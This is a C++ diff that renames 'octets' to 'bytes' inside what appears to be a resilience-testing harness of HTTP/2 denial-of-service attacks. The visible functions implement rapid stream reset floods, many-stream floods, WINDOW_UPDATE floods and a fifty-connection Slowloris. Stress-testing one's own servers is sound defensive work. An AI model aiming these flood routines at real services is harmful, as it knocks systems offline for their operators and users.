@@ -26,11 +26,11 @@ void ResetCalls(Attacker& attacker, const char* path, bool acknowledge) {
   RawConnection connection(attacker.target());
   connection.Send(Preface() + (acknowledge ? http2::SettingsAck() : ""));
   for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
-    std::string octets;
+    std::string bytes;
     for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
-      octets += http2::OpenCall(stream, path) + http2::RstStream(stream);
+      bytes += http2::OpenCall(stream, path) + http2::RstStream(stream);
     }
-    if (!connection.Send(octets)) return;
+    if (!connection.Send(bytes)) return;
   }
 }
 
@@ -49,11 +49,11 @@ void ManyStreams(Attacker& attacker) {
   RawConnection connection(attacker.target());
   connection.Send(Preface());
   for (uint32_t stream = 1; attacker.Go(kAtOnce);) {
-    std::string octets;
+    std::string bytes;
     for (uint32_t i = 0; i < kAtOnce; ++i, stream += 2) {
-      octets += http2::OpenCall(stream, kBatchLookup);
+      bytes += http2::OpenCall(stream, kBatchLookup);
     }
-    if (!connection.Send(octets)) return;
+    if (!connection.Send(bytes)) return;
   }
 }
 
@@ -89,7 +89,7 @@ void DeafReader(Attacker& attacker) {
   }
 }
 
-// `octets` again and again, `frames` of them, on a connection of its own.
+// `bytes` again and again, `frames` of them, on a connection of its own.
 void Repeat(Attacker& attacker, const std::string& frame, bool deaf = false) {
   constexpr int kAtOnce = 200;
   std::string frames;
@@ -135,18 +135,18 @@ void WindowUpdates(Attacker& attacker) {
   Repeat(attacker, Frame(http2::kWindowUpdate, 0, 0, http2::BigEndian(1, 4)));
 }
 
-// Fifty connections that say what a sound client would, an octet at a time.
+// Fifty connections that say what a sound client would, an byte at a time.
 void Slowloris(Attacker& attacker) {
-  const std::string octets =
+  const std::string bytes =
       Preface() + http2::SettingsAck() + http2::OpenCall(1, kBatchLookup);
   std::vector<std::unique_ptr<RawConnection>> connections;
   for (int i = 0; i < 50; ++i) {
     connections.push_back(std::make_unique<RawConnection>(attacker.target()));
   }
-  for (const char octet : octets) {
+  for (const char byte : bytes) {
     for (const auto& connection : connections) {
       if (!attacker.Go()) return;
-      connection->Send(absl::string_view(&octet, 1));
+      connection->Send(absl::string_view(&byte, 1));
     }
     absl::SleepFor(absl::Milliseconds(100));
   }
@@ -183,7 +183,7 @@ absl::Span<const Attack> FloodAttacks() {
       {"EmptyData", "frame", EmptyData, Attack::kEdge},
       {"UnknownFrames", "frame", UnknownFrames, Attack::kEdge},
       {"WindowUpdates", "frame", WindowUpdates, Attack::kEdge},
-      {"Slowloris", "octet", Slowloris},
+      {"Slowloris", "byte", Slowloris},
       {"ConnectAndClose", "connection", ConnectAndClose},
       {"HalfOpen", "connection", HalfOpen},
   };
